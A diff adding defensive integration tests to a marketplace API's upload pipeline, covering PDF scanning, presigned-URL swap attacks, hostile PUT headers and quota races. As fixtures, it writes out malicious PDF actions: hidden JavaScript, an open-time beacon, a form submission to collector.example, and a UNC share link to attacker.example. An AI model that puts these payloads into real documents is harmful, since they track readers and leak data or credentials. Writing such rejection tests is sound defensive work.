@@ -5,6 +5,8 @@ import {
   type PresignUploadResponse,
   PROFILE_PICTURE_MESSAGES,
   type ProfilePictureResponse,
+  type ResumeDownloadResponse,
+  type ResumeSummary,
   type SessionResponse,
   UPLOAD_FLOW_MESSAGES,
   UPLOAD_LIMITS,
@@ -14,8 +16,10 @@ import {
   type UserProfile,
 } from '@marketplace/contracts';
 import type { AppConfig } from '../../src/config/app-config';
+import { contentDisposition } from '../../src/infrastructure/storage/s3-object-storage';
 import { UploadProcessingService } from '../../src/modules/uploads/upload-processing.service';
 import { type RunningStack, startApiAndWorker } from '../support/app-with-worker';
+import { buildPdf } from '../support/pdf-builder';
 import { clearRateLimits, openOrm } from '../support/database';
 import { eventually, HttpSession } from '../support/http-session';
 import { testStorage } from '../support/storage';
@@ -425,6 +429,48 @@ describe('uploads over HTTP: presign, PUT to storage, confirm, the worker', () =
         UPLOAD_FLOW_MESSAGES.pdfActiveContent,
       ],
       [
+        'a PDF whose JavaScript hides in an object stream without /Type, after a comment, behind a predictor',
+        () =>
+          pdfWithObjectStream('<< /S /JavaScript /JS (app.alert\\(1\\)) >>', {
+            typed: false,
+            commentBeforeStream: true,
+            predictorColumns: 8,
+          }),
+        { fileName: 'cv.pdf', fileType: 'application/pdf' },
+        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
+      ],
+      [
+        'a PDF that opens a web page when opened',
+        () => buildPdf({ catalog: '/OpenAction << /S /URI /URI (https://tracker.example/opened) >>' }),
+        { fileName: 'cv.pdf', fileType: 'application/pdf' },
+        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
+      ],
+      [
+        'a PDF that submits its form when closed',
+        () =>
+          buildPdf({ catalog: '/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://collector.example) >> >> >>' }),
+        { fileName: 'cv.pdf', fileType: 'application/pdf' },
+        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
+      ],
+      [
+        'a PDF whose link opens a file on a network share',
+        () =>
+          buildPdf({
+            page: '/Annots [6 0 R]',
+            objects: {
+              6: String.raw`<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /GoToR /F (\\attacker.example\share\cv.pdf) /D [0 /Fit] >> >>`,
+            },
+          }),
+        { fileName: 'cv.pdf', fileType: 'application/pdf' },
+        UPLOAD_FLOW_MESSAGES.pdfActiveContent,
+      ],
+      [
+        'a PDF pdf.js cannot read',
+        () => Buffer.from('%PDF-1.7\nthis is no PDF body at all\n%%EOF\n', 'latin1'),
+        { fileName: 'cv.pdf', fileType: 'application/pdf' },
+        UPLOAD_FLOW_MESSAGES.documentUnreadable,
+      ],
+      [
         'a truncated PDF',
         () => pdfWithText('Cut').subarray(0, 120),
         { fileName: 'cv.pdf', fileType: 'application/pdf' },
@@ -467,6 +513,20 @@ describe('uploads over HTTP: presign, PUT to storage, confirm, the worker', () =
           'Maya Patel, bookkeeper (QuickBooks)',
         ],
         [
+          // Opening at its page, a jump and a web link that need a click: a PDF's ordinary actions.
+          buildPdf({
+            text: 'Maya Patel, linked',
+            catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
+            page: '/Annots [6 0 R]',
+            objects: {
+              6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://example.com/maya) >> >>',
+            },
+            objectStream: { numbers: [6], predictorColumns: 8 },
+          }),
+          { fileName: 'linked.pdf', fileType: 'application/pdf' },
+          'Maya Patel, linked',
+        ],
+        [
           await docxWithText('Remote customer support lead'),
           { fileName: 'cv.docx', fileType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
           'Remote customer support lead',
@@ -490,6 +550,138 @@ describe('uploads over HTTP: presign, PUT to storage, confirm, the worker', () =
         expect(download.status).toBe(200);
         expect(download.headers.get('content-type')).toBe(meta.fileType);
       }
+    });
+  });
+
+  describe('a confirmed file is out of the uploader’s reach', () => {
+    /** What a hostile uploader sends along with the PUT: none of it is signed. */
+    const HOSTILE_HEADERS = {
+      'content-disposition': 'attachment; filename="Resume.pdf.exe"',
+      'x-amz-meta-origin': 'uploader',
+    };
+    const putWith = (url: string, file: Buffer, contentType: string) =>
+      fetch(url, { method: 'PUT', headers: { 'content-type': contentType, ...HOSTILE_HEADERS }, body: file });
+    /** `start` cut or padded with new lines to `length` bytes: the PUT link only takes the signed length. */
+    const sameLength = (start: Buffer, length: number) =>
+      Buffer.concat([start, Buffer.alloc(Math.max(0, length - start.length), '\n')]).subarray(0, length);
+    /** Nothing the uploader chose among a read's headers. */
+    const expectOurHeaders = (answer: Response, contentType: string, disposition: string | null) => {
+      expect(answer.status).toBe(200);
+      expect(answer.headers.get('content-type')).toBe(contentType);
+      expect(answer.headers.get('content-disposition')).toBe(disposition);
+      expect([...answer.headers.keys()].filter((name) => name.startsWith('x-amz-meta-'))).toEqual([]);
+    };
+
+    it('serves the checked bytes with our headers, however often the PUT link is used after confirm', async () => {
+      const { session, user } = await signUp('seeker', 'swap.resume@example.com');
+      const withScript = pdfWithJavaScript();
+      // Longer than the swap, which is padded to its length (a PUT link only takes the signed length).
+      const resume = pdfWithText(
+        `Maya Patel, bookkeeper. ${'Remote work for small firms. '.repeat(Math.ceil(withScript.length / 29))}`,
+      );
+      expect(withScript.length).toBeLessThan(resume.length);
+      const signed = (await presign(session, resume, { fileName: 'Resume.pdf', fileType: 'application/pdf' })).body;
+      // The first PUT already carries headers of the uploader's choosing.
+      expect((await putWith(signed.uploadUrl, resume, 'application/pdf')).status).toBe(200);
+      const confirm = await session.post<UploadFileResponse>('/api/upload/confirm', {
+        uploadId: signed.uploadId,
+        fileUrl: signed.fileUrl,
+      });
+      expect(confirm.body.file.status).toBe('processing');
+
+      // Swapped while the worker has it: the worker checks the copy confirm made, not this.
+      expect((await putWith(signed.uploadUrl, sameLength(withScript, resume.length), 'application/pdf')).status).toBe(
+        200,
+      );
+      expect(await settled(session, signed.uploadId)).toMatchObject({ status: 'ready', rejectionReason: null });
+      // Swapped after it is ready, and confirmed again.
+      const executable = sameLength(EXECUTABLE, resume.length);
+      expect((await putWith(signed.uploadUrl, executable, 'application/pdf')).status).toBe(200);
+      const again = await session.post<UploadFileResponse>('/api/upload/confirm', {
+        uploadId: signed.uploadId,
+        fileUrl: signed.fileUrl,
+      });
+      expect(again.body.file.status).toBe('ready');
+
+      expect(await storage.read(signed.fileKey)).toEqual(resume);
+      expect(await storage.head(signed.fileKey)).toEqual({ size: resume.length, contentType: 'application/pdf' });
+      const own = await fetch(again.body.file.url!);
+      expectOurHeaders(own, 'application/pdf', contentDisposition('inline', 'Resume.pdf'));
+      expect(Buffer.from(await own.arrayBuffer())).toEqual(resume);
+
+      // As a resume: the link an employer is given reads the same bytes, with the same headers.
+      const attached = await session.post<ResumeSummary>('/api/seeker/resumes', { uploadId: signed.uploadId });
+      expect(attached.status).toBe(201);
+      const link = (await session.get<ResumeDownloadResponse>(`/api/seeker/resumes/${attached.body.id}/download`)).body;
+      const download = await fetch(link.downloadUrl);
+      expectOurHeaders(download, 'application/pdf', contentDisposition('inline', `${attached.body.name}.pdf`));
+      expect(Buffer.from(await download.arrayBuffer())).toEqual(resume);
+      // What the last PUT left sits on the staging key, which no link reads; it goes with the upload.
+      expect(await keysOf(user.id)).toEqual(
+        [signed.fileKey, `uploads/${user.id}/${signed.uploadId}/incoming/original`].sort(),
+      );
+    });
+
+    it('downloads a document under our name and type, not the ones sent with the PUT', async () => {
+      const { session } = await signUp('seeker', 'swap.docx@example.com');
+      const docx = await docxWithText('Remote customer support lead');
+      const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+      const signed = (await presign(session, docx, { fileName: 'cv.docx', fileType: type })).body;
+      expect((await putWith(signed.uploadUrl, docx, type)).status).toBe(200);
+      await session.post('/api/upload/confirm', { uploadId: signed.uploadId, fileUrl: signed.fileUrl });
+      expect(await settled(session, signed.uploadId)).toMatchObject({ status: 'ready' });
+      const attached = await session.post<ResumeSummary>('/api/seeker/resumes', {
+        uploadId: signed.uploadId,
+        name: 'Support',
+      });
+      const link = (await session.get<ResumeDownloadResponse>(`/api/seeker/resumes/${attached.body.id}/download`)).body;
+      const download = await fetch(link.downloadUrl);
+      expectOurHeaders(download, type, contentDisposition('attachment', 'Support.docx'));
+      expect(Buffer.from(await download.arrayBuffer())).toEqual(docx);
+    });
+
+    it('shows a picture as our WebP, whatever was sent with the PUT', async () => {
+      const { session } = await signUp('seeker', 'swap.avatar@example.com');
+      const image = await pngOf(80, 80);
+      const signed = (
+        await presign(session, image, { fileName: 'me.png', fileType: 'image/png', uploadType: 'avatar' })
+      ).body;
+      expect((await putWith(signed.uploadUrl, image, 'image/png')).status).toBe(200);
+      await session.post('/api/upload/confirm', { uploadId: signed.uploadId, fileUrl: signed.fileUrl });
+      const file = await settled(session, signed.uploadId);
+      expect(file.status).toBe('ready');
+      const picture = await fetch(file.url!);
+      expectOurHeaders(picture, 'image/webp', null);
+      expect((await sharp(Buffer.from(await picture.arrayBuffer())).metadata()).format).toBe('webp');
+    });
+  });
+
+  describe('the quota under concurrency', () => {
+    it('signs at most the quota when 25 requests of 10 MB arrive at once', async () => {
+      const { session, user } = await signUp('seeker', 'quota.race@example.com');
+      const answers = await Promise.all(
+        Array.from({ length: 25 }, (_, index) =>
+          session.post<PresignUploadResponse>('/api/upload/presigned-url', {
+            fileName: `cv-${index}.pdf`,
+            fileType: 'application/pdf',
+            fileSize: 10 * 1024 * 1024,
+          }),
+        ),
+      );
+      const signedCount = UPLOAD_LIMITS.userQuotaBytes / (10 * 1024 * 1024);
+      expect(answers.filter((answer) => answer.status === 200)).toHaveLength(signedCount);
+      for (const refused of answers.filter((answer) => answer.status !== 200)) {
+        expect(refused.status).toBe(400);
+        expect(refused.body).toMatchObject({ fieldErrors: { fileSize: [UPLOAD_FLOW_MESSAGES.quotaExceeded] } });
+      }
+      const [reserved] = await orm.em
+        .fork()
+        .getConnection()
+        .execute<Array<{ total: string }>>(
+          `select coalesce(sum("file_size"), 0) as "total" from "uploads" where "owner_id" = ? and "status" <> 'rejected'`,
+          [user.id],
+        );
+      expect(Number(reserved!.total)).toBe(UPLOAD_LIMITS.userQuotaBytes);
     });
   });
 
